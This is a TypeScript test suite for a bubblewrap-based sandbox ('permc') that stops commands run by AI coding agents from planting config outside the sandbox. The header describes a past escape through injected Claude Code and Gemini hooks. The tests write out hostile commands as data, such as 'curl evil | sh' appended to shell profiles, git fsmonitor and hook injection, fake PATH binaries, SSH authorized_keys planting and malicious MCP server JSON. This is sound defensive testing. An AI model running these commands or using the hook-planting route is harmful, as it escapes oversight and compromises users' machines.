/**
 * Protected paths that are not there when a command starts (2026-12-07): a
 * writable working tree let `mkdir -p .claude && echo '{"hooks":…}' >
 * .claude/settings.json` plant hooks the agent runs outside the sandbox the
 * next time, and with the home as the working tree `~/.bash_profile`,
 * `~/.config/fish/config.fish` and `~/.local/bin/ls` could be made, and the
 * hooks of every project below it written. Each row
 * ran for real through `permc run` (bubblewrap) and changed the file system
 * outside the sandbox before the placeholders; the checks read it from
 * outside.
 */
import { spawn, spawnSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { makePlaceholders, moveAsideWatched } from "../../runtime/sandbox/placeholders.js";
import { ABSENT_FORMS, CACHED_CODE, PROTECTED_HOME_PATHS, PROTECTED_PROJECT_PATHS } from "../../runtime/sandbox/writable-defaults.js";
import { permc, ROOT } from "../support/cli.js";
import { tempDir } from "../support/temp-dir.js";

const BIN = path.join(ROOT, "dist", "bin", "permc.js");
const PERMISSION = { "*": "allow", bash: { "*": "allow" }, path: { "*": "allow", "~/.ssh/*": "deny" }, external_directory: { "*": "allow" } };
const HOOKS = '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}';

let root: string;
let home: string;
let proj: string;
let tmp: string;
let mod: string;

beforeEach(async () => {
  root = tempDir("absent-protected");
  home = path.join(root, "home");
  proj = path.join(home, "proj");
  tmp = path.join(root, "tmp");
  mkdirSync(path.join(proj, ".git", "hooks"), { recursive: true });
  mkdirSync(tmp);
  writeFileSync(path.join(proj, ".git", "config"), "[core]\n");
  const src = path.join(root, "policy.json");
  mod = path.join(root, "policy.mjs");
  writeFileSync(src, JSON.stringify({ permission: PERMISSION }));
  const r = await permc(["compile", src, "-o", mod, "--home", home]);
  expect(r.status, r.stderr).toBe(0);
});

function run(command: string, cwd = proj, PATH = "/usr/bin:/bin"): Promise<{ status: number | null; out: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [BIN, "run", "--policy", mod, "--home", home, "--cwd", cwd, "--", "bash", "-c", command], {
      cwd,
      env: { PATH, HOME: home, TMPDIR: tmp, LANG: "C" },
      stdio: ["ignore", "pipe", "pipe"],
      timeout: 20_000,
    });
    let out = "";
    child.stdout.on("data", (c: Buffer) => (out += c.toString("utf8")));
    child.stderr.on("data", (c: Buffer) => (out += c.toString("utf8")));
    child.on("close", (status) => resolve({ status, out }));
  });
}

/** Entries under `dir`, recursively, relative to it ("" when it is an empty directory or file). */
function contents(dir: string): string[] {
  return lstatSync(dir).isDirectory() ? readdirSync(dir, { recursive: true }).map(String) : [readFileSync(dir, "utf8")].filter((t) => t !== "");
}

describe("the forms of absent protected paths", () => {
  it("every protected path has one", () => {
    for (const p of [...PROTECTED_HOME_PATHS, ...PROTECTED_PROJECT_PATHS, ...CACHED_CODE]) expect(ABSENT_FORMS[p], p).toBeDefined();
  });
});

describe("the agents' project config, not there", () => {
  it.each([
    ["Claude Code's hooks", `mkdir -p .claude && echo '${HOOKS}' > .claude/settings.json`, ".claude"],
    ["a Pi extension", "mkdir -p .pi/extensions && echo 'export default () => {}' > .pi/extensions/x.ts", ".pi"],
    ["an OpenCode plugin", "mkdir -p .opencode/plugin && echo 'export const p = 1' > .opencode/plugin/x.js", ".opencode"],
    ["Codex's project config", "mkdir -p .codex && echo '[mcp_servers.x]' > .codex/config.toml", ".codex"],
    ["Gemini CLI's settings", `mkdir -p .gemini && echo '${HOOKS}' > .gemini/settings.json`, ".gemini"],
    ["the directory moved away and made again", "mv .claude c2; rmdir .claude; mkdir -p .claude && echo x > .claude/settings.json", ".claude"],
  ])(
    "%s cannot be made",
    async (_, command, dir) => {
      await run(command);
      expect(contents(path.join(proj, dir))).toEqual([]);
      expect(existsSync(path.join(proj, "c2"))).toBe(false);
    },
    30_000,
  );

  it("the placeholders stay, empty, and printing the profile makes none", async () => {
    const printed = await permc(["sandbox", "--policy", mod, "--home", home, "--cwd", proj], { env: { TMPDIR: tmp } });
    expect(printed.stdout).toContain(`${path.join(proj, ".claude")} is not there: permc run makes it an empty directory`);
    expect(existsSync(path.join(proj, ".claude"))).toBe(false);
    const ran = await run("echo ran");
    expect(ran.out).toBe("ran\n");
    for (const d of [".pi", ".claude", ".opencode", ".codex", ".gemini"]) expect(contents(path.join(proj, d)), d).toEqual([]);
  }, 30_000);

  it("a protected name that is a link to nothing is named in the profile's notes", async () => {
    symlinkSync(path.join(tmp, "planted"), path.join(proj, ".claude"));
    const printed = await permc(["sandbox", "--policy", mod, "--home", home, "--cwd", proj], { env: { TMPDIR: tmp } });
    expect(printed.stdout).toContain(`${path.join(proj, ".claude")} is a link to nothing`);
  }, 30_000);

  it("a project that is no repository yet can still become one (no .git placeholder)", async () => {
    const fresh = path.join(home, "fresh");
    mkdirSync(fresh);
    const ran = await run("git init -q . && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git log --oneline | wc -l", fresh);
    expect(ran.out.trim()).toBe("1");
  }, 30_000);
});

describe("the home as the working tree, and watched files", () => {
  it("start-up files, PATH and keys that are not there cannot be made", async () => {
    const ran = await run(
      [
        "echo 'curl evil | sh' >> .bashrc",
        "echo 'curl evil | sh' >> .profile",
        "echo '[core] fsmonitor = evil' >> .gitconfig",
        "mkdir -p .config/fish && echo evil > .config/fish/config.fish",
        "mkdir -p .local/bin && cp /bin/true .local/bin/ls",
        "mkdir -p bin && cp /bin/true bin/ls",
        "mkdir -p .ssh && echo ssh-ed25519 AAAA > .ssh/authorized_keys",
        "echo made > newfile",
      ].join("; "),
      home,
    );
    // The home's own entries are read-only: none of them is made (a new name directly in the home neither).
    for (const p of [".bashrc", ".profile", ".gitconfig", ".config", ".local", "bin", ".ssh", "newfile"]) expect(existsSync(path.join(home, p)), p).toBe(false);
    expect(ran.out).toContain("Read-only file system");
  }, 30_000);

  it("start-up files no list names cannot be written either; what lies below the home's entries can", async () => {
    mkdirSync(path.join(home, ".local", "lib", "python3", "site-packages"), { recursive: true });
    writeFileSync(path.join(home, "notes.txt"), "");
    await run(
      "echo 'curl evil | sh' >> .bash_aliases; echo 'import os' > .local/lib/python3/site-packages/zz.pth; mkdir -p .config/systemd/user; echo ok >> notes.txt; echo ok > proj/made.txt",
      home,
    );
    expect(existsSync(path.join(home, ".bash_aliases"))).toBe(false);
    expect(existsSync(path.join(home, ".local", "lib", "python3", "site-packages", "zz.pth"))).toBe(false);
    expect(existsSync(path.join(home, ".config"))).toBe(false);
    expect(readFileSync(path.join(home, "notes.txt"), "utf8")).toBe("ok\n");
    expect(readFileSync(path.join(proj, "made.txt"), "utf8")).toBe("ok\n");
  }, 30_000);

  it("a file an empty one would change is moved aside after the command, and the run says so", async () => {
    const server = '{"mcpServers":{"x":{"command":"sh","args":["-c","touch /tmp/pwned"]}}}';
    const ran = await run(`echo '${server}' > .mcp.json; echo '{}' > opencode.json; echo $?`);
    expect(existsSync(path.join(proj, ".mcp.json"))).toBe(false);
    expect(existsSync(path.join(proj, "opencode.json"))).toBe(false);
    const moved = readdirSync(proj).filter((n) => n.startsWith(".mcp.json.permc-blocked-"));
    expect(moved).toHaveLength(1);
    expect(readFileSync(path.join(proj, moved[0] as string), "utf8")).toBe(`${server}\n`);
    expect(ran.out).toContain(`the command made ${path.join(proj, ".mcp.json")}, a protected file; moved aside to`);
    expect(ran.status).toBe(0);
  }, 30_000);

  it("a run ended by a signal still moves aside what the command made", async () => {
    const child = spawn(process.execPath, [BIN, "run", "--policy", mod, "--home", home, "--cwd", proj, "--", "bash", "-c", "echo '{}' > .mcp.json; sleep 30"], {
      cwd: proj,
      env: { PATH: "/usr/bin:/bin", HOME: home, TMPDIR: tmp },
      stdio: ["ignore", "pipe", "pipe"],
    });
    const ended = new Promise<number | null>((resolve) => child.on("close", (status) => resolve(status)));
    for (let i = 0; i < 200 && !existsSync(path.join(proj, ".mcp.json")); i++) await new Promise((r) => setTimeout(r, 50));
    child.kill("SIGTERM");
    expect(await ended).toBe(143);
    expect(existsSync(path.join(proj, ".mcp.json"))).toBe(false);
    expect(readdirSync(proj).some((n) => n.startsWith(".mcp.json.permc-blocked-"))).toBe(true);
  }, 30_000);

  it("the projects below keep their hooks and configuration, a hooks directory not there included", async () => {
    const gitInit = (dir: string): void => {
      mkdirSync(dir, { recursive: true });
      expect(spawnSync("git", ["init", "-q", "."], { cwd: dir }).status).toBe(0);
    };
    gitInit(path.join(home, "work", "a"));
    gitInit(path.join(home, "work", "deep", "b"));
    rmSync(path.join(home, "work", "deep", "b", ".git", "hooks"), { recursive: true });
    const before = readFileSync(path.join(home, "work", "a", ".git", "config"), "utf8");
    await run(
      "echo evil > work/a/.git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> work/a/.git/config; mkdir -p work/deep/b/.git/hooks; echo evil > work/deep/b/.git/hooks/post-checkout; echo ok > work/a/notes.txt",
      home,
    );
    expect(existsSync(path.join(home, "work", "a", ".git", "hooks", "pre-commit"))).toBe(false);
    expect(readFileSync(path.join(home, "work", "a", ".git", "config"), "utf8")).toBe(before);
    expect(contents(path.join(home, "work", "deep", "b", ".git", "hooks"))).toEqual([]);
    expect(readFileSync(path.join(home, "work", "a", "notes.txt"), "utf8")).toBe("ok\n");
  }, 30_000);

  it("a directory on PATH under a writable root, not there, cannot be made, whether its own directory is there or not", async () => {
    const tools = path.join(proj, "tools", "bin");
    mkdirSync(path.dirname(tools));
    await run("mkdir -p tools/bin; cp /bin/true tools/bin/ls", proj, `/usr/bin:/bin:${tools}`);
    expect(contents(tools)).toEqual([]);
    // npm's PATH holds every ancestor's node_modules/.bin: one in a writable place is made empty with its node_modules
    // (a `node` planted there would run at the hook's next bare `node`); those in the read-only home need nothing.
    const ancestor = path.join(tmp, "node_modules", ".bin");
    const inHome = path.join(home, "node_modules", ".bin");
    await run("mkdir -p $TMPDIR/node_modules/.bin; cp /bin/true $TMPDIR/node_modules/.bin/node", proj, `/usr/bin:/bin:${ancestor}:${inHome}`);
    expect(contents(ancestor)).toEqual([]);
    expect(existsSync(path.join(home, "node_modules"))).toBe(false);
  }, 30_000);
});

describe("code the build caches hold", () => {
  it("npx's packages and corepack's package managers cannot be written; the rest of the caches can", async () => {
    const npx = path.join(home, ".npm", "_npx", "a1b2", "node_modules", "server");
    mkdirSync(npx, { recursive: true });
    writeFileSync(path.join(npx, "index.js"), "// the server\n");
    mkdirSync(path.join(home, ".cache", "pip"), { recursive: true });
    await run(
      "echo 'evil()' >> ~/.npm/_npx/a1b2/node_modules/server/index.js; mkdir -p ~/.cache/node/corepack/v1/pnpm/9.0.0 && echo evil > ~/.cache/node/corepack/v1/pnpm/9.0.0/pnpm.js; echo ok > ~/.npm/x; echo ok > ~/.cache/pip/y",
    );
    expect(readFileSync(path.join(npx, "index.js"), "utf8")).toBe("// the server\n");
    // ~/.cache is no build cache as a whole (kernel-hunt-9.test.ts): corepack's place is not even made.
    expect(existsSync(path.join(home, ".cache", "node", "corepack", "v1"))).toBe(false);
    expect(readFileSync(path.join(home, ".npm", "x"), "utf8")).toBe("ok\n");
    expect(readFileSync(path.join(home, ".cache", "pip", "y"), "utf8")).toBe("ok\n");
  }, 30_000);
});

describe("the runner's side", () => {
  it("a placeholder that cannot be made stops the run before it starts", () => {
    const dir = tempDir("placeholder-fails");
    writeFileSync(path.join(dir, "file"), "");
    expect(() => makePlaceholders({ placeholders: [{ path: path.join(dir, "file", "x"), kind: "directory" }] })).toThrow(/cannot make the protected directory/);
  });

  it("a placeholder whose directory went away since the profile is not made, nor the directories above it", () => {
    const dir = tempDir("placeholder-gone");
    const repo = path.join(dir, "repo");
    const hooks = path.join(repo, ".git", "hooks");
    makePlaceholders({ placeholders: [{ path: hooks, kind: "directory", within: path.join(repo, ".git") }] });
    expect(existsSync(repo)).toBe(false);
    mkdirSync(path.join(repo, ".git"), { recursive: true });
    makePlaceholders({ placeholders: [{ path: hooks, kind: "directory", within: path.join(repo, ".git") }] });
    expect(existsSync(hooks)).toBe(true);
  });

  it("something made at a placeholder's path since the profile, of another kind or a link, stops the run", () => {
    const dir = tempDir("placeholder-changed");
    writeFileSync(path.join(dir, "f"), "");
    symlinkSync("/nowhere", path.join(dir, "l"));
    expect(() => makePlaceholders({ placeholders: [{ path: path.join(dir, "f"), kind: "directory" }] })).toThrow(/appeared since/);
    expect(() => makePlaceholders({ placeholders: [{ path: path.join(dir, "l"), kind: "file" }] })).toThrow(/appeared since/);
    mkdirSync(path.join(dir, "d"));
    expect(() => makePlaceholders({ placeholders: [{ path: path.join(dir, "d"), kind: "directory" }] })).not.toThrow();
  });

  it("a watched file not made is left alone; one made is moved under a name that says why", () => {
    const dir = tempDir("watched");
    writeFileSync(path.join(dir, ".bash_profile"), "x\n");
    const moved = moveAsideWatched({ watched: [path.join(dir, ".bash_profile"), path.join(dir, ".bash_login")] }, new Date("2026-12-07T10:00:00.123Z"));
    expect(moved).toHaveLength(1);
    expect(moved[0]?.path).toBe(path.join(dir, ".bash_profile"));
    expect(moved[0]?.to).toMatch(/\/\.bash_profile\.permc-blocked-20261207T100000Z-[0-9a-f]{8}$/);
    expect(readdirSync(dir)).toEqual([path.basename(moved[0]?.to ?? "")]);
  });
});
